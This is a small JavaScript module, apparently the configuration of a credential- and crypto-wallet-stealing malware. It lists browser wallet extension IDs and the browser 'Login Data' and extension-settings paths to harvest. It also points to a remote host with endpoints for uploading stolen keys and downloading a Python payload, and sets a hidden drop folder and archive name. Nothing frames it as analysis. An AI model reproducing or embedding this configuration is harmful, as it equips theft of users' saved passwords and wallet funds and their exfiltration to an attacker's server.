const os = require('os');
const path = require('path');
const host = 'http://192.0.2.15:1224';
const wallets = ['nkbihfbeog', 'bfnaelmomeim'];
const stores = ['Local Extension Settings', 'Login Data'];
const places = wallets.map((id) => stores.map((store) => path.join(os.homedir(), store, id)));
module.exports = { upload: host + '/keys', python: host + '/pdown', client: host + '/client/5/503', drop: path.join(os.homedir(), '/.npl'), archive: 'p2.zip', places };
